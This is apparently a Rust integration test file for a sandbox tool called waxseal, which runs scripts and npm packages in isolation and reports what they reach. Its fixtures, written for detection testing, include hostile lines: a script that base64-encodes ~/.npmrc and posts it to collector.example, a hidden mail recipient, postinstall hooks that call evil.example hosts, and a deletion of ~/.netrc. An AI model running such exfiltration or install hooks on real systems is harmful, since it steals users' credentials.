//! `waxseal run` as a user types it: the real room, the real simulated internet, real programs in it.

use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

fn run(folder: &Path, options: &[&str], command: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_waxseal"))
        .arg("run")
        .args(["--seed", "11"])
        .args(options)
        .arg("--")
        .args(command)
        .current_dir(folder)
        .output()
        .expect("waxseal starts")
}

/// Runs a script of Node's and reads the summary.
fn node(options: &[&str], script: &str) -> (Option<i32>, Value) {
    let folder = tempfile::tempdir().expect("a folder");
    let options = [&["--format", "json"], options].concat();
    let out = run(folder.path(), &options, &["node", "-e", script]);
    (out.status.code(), summary_of(&out))
}

/// What was seen, out of a report.
fn summary_of(out: &Output) -> Value {
    let mut report: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|err| panic!("{err}: {}", String::from_utf8_lossy(&out.stderr)));
    report["packages"][0]["runs"][0].take()
}

fn names(summary: &Value, list: &str, field: &str) -> Vec<String> {
    let list = summary[list].as_array().expect("a list");
    list.iter()
        .filter_map(|it| it[field].as_str())
        .map(str::to_owned)
        .collect()
}

const FETCH: &str = "fetch('https://api.shop.example/v1/orders').then(r => r.text()).then(() => process.exit(0))";

#[test]
fn a_request_is_answered_and_told() {
    let (code, summary) = node(&[], FETCH);
    assert_eq!(code, Some(0), "{summary:#}");
    assert_eq!(
        names(&summary, "destinations", "name"),
        ["api.shop.example"],
        "{summary:#}"
    );
}

#[test]
fn what_is_not_allowed_fails_the_run() {
    let (code, _) = node(&["--allow", "other.example"], FETCH);
    assert_eq!(code, Some(1));
    let (code, _) = node(&["--allow", "*.shop.example"], FETCH);
    assert_eq!(code, Some(0));
}

#[test]
fn a_planted_secret_that_leaves_in_an_encoding_is_found() {
    let script = "
        const secret = require('node:fs').readFileSync(process.env.HOME + '/.npmrc').toString('base64')
        fetch('https://collector.example/', { method: 'POST', body: secret }).then(() => process.exit(0))";
    let (code, summary) = node(&[], script);
    assert_eq!(code, Some(1), "{summary:#}");
    let sent = summary["canaries"].as_array().expect("a list");
    assert!(sent.iter().any(|it| it.to_string().contains("sent")), "{summary:#}");
}

#[test]
fn mail_is_told_with_its_envelope() {
    let script = "
        const socket = require('node:net').connect(25, 'mx.corp.example')
        const lines = ['EHLO a', 'MAIL FROM:<a@corp.example>', 'RCPT TO:<hidden@collector.example>', 'DATA', 'To: you@corp.example\\r\\n\\r\\nhi\\r\\n.', 'QUIT']
        socket.on('data', () => lines.length ? socket.write(lines.shift() + '\\r\\n') : socket.end())
        socket.on('close', () => process.exit(0))";
    let (_, summary) = node(&[], script);
    let mails = summary["mails"].as_array().expect("a list");
    assert!(
        mails.len() == 1 && mails[0].to_string().contains("hidden@collector.example"),
        "{summary:#}"
    );
}

#[test]
fn what_could_not_be_run_to_its_end_is_no_pass() {
    let folder = tempfile::tempdir().expect("a folder");
    assert_eq!(run(folder.path(), &[], &["no-such-program"]).status.code(), Some(4));
    let slow = run(folder.path(), &["--max-time", "1s"], &["sleep", "60"]);
    assert_eq!(slow.status.code(), Some(4));
    assert_eq!(
        run(folder.path(), &[], &["sh", "-c", "exit 255"]).status.code(),
        Some(0)
    );
}

#[test]
fn nothing_of_this_machine_is_reached() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a socket");
    listener.set_nonblocking(true).expect("a setting");
    let port = listener.local_addr().expect("an address").port();
    let script = format!(
        "const socket = require('node:net').connect({port}, '127.0.0.1')
         socket.on('connect', () => process.exit(9)); socket.on('error', () => process.exit(0))"
    );
    let (_, summary) = node(&[], &script);
    assert!(summary["end"].to_string().contains("exit 0"), "{summary:#}");
    assert!(listener.accept().is_err(), "somebody came");
}

#[test]
fn the_first_process_of_the_room_does_not_say_what_it_was_made_from() {
    let folder = tempfile::tempdir().expect("a folder");
    let script = "tr '\\000' ' ' </proc/1/cmdline; cat /proc/1/comm; env; cat /proc/1/environ";
    let out = Command::new(env!("CARGO_BIN_EXE_waxseal"))
        .args(["run", "--no-project", "--", "sh", "-c", script])
        .env("SECRET_OF_MINE", "not-to-be-seen-inside")
        .current_dir(folder.path())
        .output()
        .expect("waxseal starts");
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("init"), "{said}");
    for word in ["waxseal", "not-to-be-seen-inside", "no-project"] {
        assert!(!said.contains(word), "{word}: {said}");
    }
}

#[test]
fn what_a_project_is_changed_to_never_leaves_the_room() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("kept"), "before").expect("a file");
    let out = run(
        folder.path(),
        &[],
        &[
            "sh",
            "-c",
            "cat kept && echo after > kept && echo new > made && cat kept",
        ],
    );
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(said.contains("before") && said.contains("after"), "{said}");
    assert_eq!(
        std::fs::read_to_string(folder.path().join("kept")).expect("a file"),
        "before"
    );
    assert!(!folder.path().join("made").exists());
}

#[test]
fn files_that_are_made_changed_and_removed_are_listed() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::create_dir(folder.path().join("inner")).expect("a folder");
    for name in ["kept", "changed", "inner/removed"] {
        std::fs::write(folder.path().join(name), "before").expect("a file");
    }
    let script = "echo after > changed; rm inner/removed; mkdir -p new/deep; echo 12345 > new/deep/file; echo x > $HOME/.made; rm ~/.netrc";
    let out = run(folder.path(), &["--format", "json"], &["sh", "-c", script]);
    let summary = summary_of(&out);
    let mut files: Vec<(String, String)> = summary["files"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|it| {
            let path = it["path"].as_str().expect("a path");
            let path = path
                .rsplit_once("/projects/")
                .map_or(path, |(_, rest)| rest.split_once('/').expect("a name").1);
            let path = path
                .rsplit_once("/home/")
                .map_or(path, |(_, rest)| rest.split_once('/').expect("a name").1);
            (path.to_owned(), it["change"].as_str().expect("a change").to_owned())
        })
        .collect();
    files.sort();
    let expected = [
        (".made", "made"),
        (".netrc", "removed"),
        ("changed", "changed"),
        ("inner/removed", "removed"),
        ("new", "made"),
    ];
    let expected: Vec<(String, String)> = expected
        .map(|(path, change)| (path.to_owned(), change.to_owned()))
        .into();
    assert_eq!(files, expected, "{summary:#}");
}

#[test]
fn what_a_command_writes_cannot_command_the_terminal() {
    let folder = tempfile::tempdir().expect("a folder");
    let out = run(folder.path(), &[], &["printf", "\\033]0;title\\007\\033[2J\\n"]);
    let all = [out.stdout, out.stderr].concat();
    assert!(
        !all.contains(&0x1b) && !all.contains(&7),
        "{}",
        String::from_utf8_lossy(&all)
    );
}

#[test]
fn a_flood_of_output_is_read_and_not_all_shown() {
    let folder = tempfile::tempdir().expect("a folder");
    let out = run(
        folder.path(),
        &[],
        &["sh", "-c", "yes 0123456789abcdef | head -c 60000000"],
    );
    assert_eq!(out.status.code(), Some(0));
    assert!(out.stderr.len() < 40 << 20, "{}", out.stderr.len());
}

#[test]
fn a_run_with_the_same_seed_sees_the_same() {
    let seen = || {
        let (_, mut summary) = node(&[], FETCH);
        for field in ["duration_us", "counters", "processes"] {
            summary.as_object_mut().expect("an object").remove(field);
        }
        let text = summary.to_string();
        // Clocks and the sizes of handshakes differ.
        let kept: String = text
            .split(',')
            .filter(|it| {
                !it.contains("_us")
                    && !it.contains("bytes")
                    && !it.contains("pid")
                    && !it.contains("sent")
                    && !it.contains("received")
            })
            .collect();
        kept
    };
    assert_eq!(seen(), seen());
}

#[test]
fn a_package_is_installed_with_its_scripts_and_loaded() {
    let folder = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).expect("a file");
    write(
        "package.json",
        r#"{"name":"tiny","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node -e \"fetch('http://install.evil.example/').then(() => 0)\""}}"#,
    );
    write("index.js", "fetch('http://import.evil.example/').then(() => 0)");
    let out = Command::new(env!("CARGO_BIN_EXE_waxseal"))
        .args([
            "run",
            "--format",
            "json",
            "--registry",
            "https://registry.example/",
            ".",
        ])
        .current_dir(folder.path())
        .output()
        .expect("waxseal starts");
    let summary = summary_of(&out);
    let reached = names(&summary, "destinations", "name");
    for host in ["install.evil.example", "import.evil.example"] {
        assert!(reached.iter().any(|it| it == host), "{host}: {summary:#}");
    }
}

#[test]
fn a_package_that_could_not_be_loaded_is_no_pass() {
    let check = |index: &str, exports: &str, expected: i32| {
        let folder = tempfile::tempdir().expect("a folder");
        let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).expect("a file");
        write(
            "package.json",
            &format!(r#"{{"name":"tiny","version":"1.0.0","exports":{exports}}}"#),
        );
        write("index.js", index);
        let out = Command::new(env!("CARGO_BIN_EXE_waxseal"))
            .args([
                "run",
                "--allow",
                "a.example",
                "--registry",
                "https://registry.example/",
                ".",
            ])
            .current_dir(folder.path())
            .output()
            .expect("waxseal starts");
        let said = [out.stdout, out.stderr].concat();
        assert_eq!(out.status.code(), Some(expected), "{}", String::from_utf8_lossy(&said));
    };
    check("exports.a = 1", r#"{".":"./index.js"}"#, 0);
    check("throw new Error('not today')", r#"{".":"./index.js"}"#, 4);
    check("exports.a = 1", r#"{".":"./missing.js","./more":"./index.js"}"#, 4);
    check("exports.a = 1", r#"{"./more":"./missing.js"}"#, 4);
    // A name for nothing, beside what is there, leads nobody anywhere.
    check("exports.a = 1", r#"{".":"./index.js","./more":"./missing.js"}"#, 0);
    // What holds nothing to run is whole.
    check("", r#"{".":{"types":"./index.d.ts"}}"#, 0);
    check("", r#"{"./*.css":"./*.css"}"#, 0);
}

/// Packs a folder's files as `npm pack` does, without npm.
fn pack(folder: &Path, files: &[(&str, &str)]) {
    let place = folder.join("package");
    std::fs::create_dir(&place).expect("a folder");
    for (name, text) in files {
        std::fs::write(place.join(name), text).expect("a file");
    }
    let packed = Command::new("tar")
        .args(["czf", "tiny.tgz", "package"])
        .current_dir(folder)
        .status();
    assert!(packed.expect("tar starts").success());
    std::fs::remove_dir_all(place).expect("removed");
}

#[test]
fn an_archive_on_disk_is_installed_with_its_scripts_and_loaded() {
    let folder = tempfile::tempdir().expect("a folder");
    let manifest =
        r#"{"name":"@s/tiny","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node script.js"}}"#;
    let files = [
        ("package.json", manifest),
        ("script.js", "fetch('http://install.evil.example/').then(() => 0)"),
        (
            "index.js",
            "const read = e => e.MAILER_API_KEY\nif (read(process.env)) fetch('http://import.evil.example/').then(() => 0)",
        ),
    ];
    pack(folder.path(), &files);
    let out = Command::new(env!("CARGO_BIN_EXE_waxseal"))
        .args([
            "run",
            "--format",
            "json",
            "--registry",
            "https://registry.example/",
            "./tiny.tgz",
        ])
        .current_dir(folder.path())
        .output()
        .expect("waxseal starts");
    let summary = summary_of(&out);
    let reached = names(&summary, "destinations", "name");
    for host in ["install.evil.example", "import.evil.example"] {
        assert!(reached.iter().any(|it| it == host), "{host}: {summary:#}");
    }
    assert_eq!(summary["invalid"], serde_json::json!([]), "{summary:#}");
}

#[test]
fn what_a_pattern_and_each_condition_name_is_loaded() {
    let folder = tempfile::tempdir().expect("a folder");
    let fetch = |host: &str| format!("fetch('http://{host}.evil.example/').then(() => 0)");
    let manifest = r#"{"name":"tiny","version":"1.0.0","exports":{".":{"import":"./a.mjs","require":"./b.cjs"},"./*":"./sub/*.js",
        "./closed":null,"./style":"./style.css"}}"#;
    std::fs::create_dir(folder.path().join("sub")).expect("a folder");
    for (name, text) in [
        ("package.json", manifest.to_owned()),
        ("a.mjs", fetch("imported")),
        ("b.cjs", fetch("required")),
        ("sub/one.js", fetch("pattern")),
        ("sub/closed.js", fetch("closed")),
        ("style.css", String::new()),
    ] {
        std::fs::write(folder.path().join(name), text).expect("a file");
    }
    let out = Command::new(env!("CARGO_BIN_EXE_waxseal"))
        .args([
            "run",
            "--format",
            "json",
            "--registry",
            "https://registry.example/",
            ".",
        ])
        .current_dir(folder.path())
        .output()
        .expect("waxseal starts");
    let summary = summary_of(&out);
    let reached = names(&summary, "destinations", "name");
    let has = |host: &str| reached.iter().any(|it| *it == format!("{host}.evil.example"));
    assert!(has("imported") && has("required") && has("pattern"), "{summary:#}");
    assert!(!has("closed"), "{summary:#}");
    assert_eq!(summary["invalid"], serde_json::json!([]), "{summary:#}");
}
